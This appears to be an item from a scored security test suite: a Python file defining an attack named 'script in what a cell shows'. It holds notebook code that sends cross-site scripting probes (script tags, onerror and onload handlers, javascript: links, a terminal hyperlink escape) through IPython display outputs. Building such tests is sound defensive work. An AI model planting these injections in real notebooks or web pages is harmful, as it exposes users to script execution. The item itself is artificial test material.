from attack import Attack

_TEXT = """
from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display
evil = "<script>alert(1)</script><img src=x onerror=alert(1)><a href=javascript:alert(1)>x</a>"
for kind in (HTML, Javascript, Markdown, Latex): display(kind(evil))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
display(IFrame("javascript:alert(1)", 10, 10))
kinds = ["text/html", "application/javascript", "application/vnd.jupyter.widget-view+json"]
display(dict.fromkeys([*kinds, "text/plain", "application/pdf", "text/latex", evil], evil), raw=True)
print(evil, "\033]8;;javascript:alert(1)\033\\\\x\033]8;;\033\\\\")
figure = sum(orders)
"""
ATTACK = Attack("script in what a cell shows", figure=_TEXT, points={"pick": 2.0, "figure-test": 3.0})
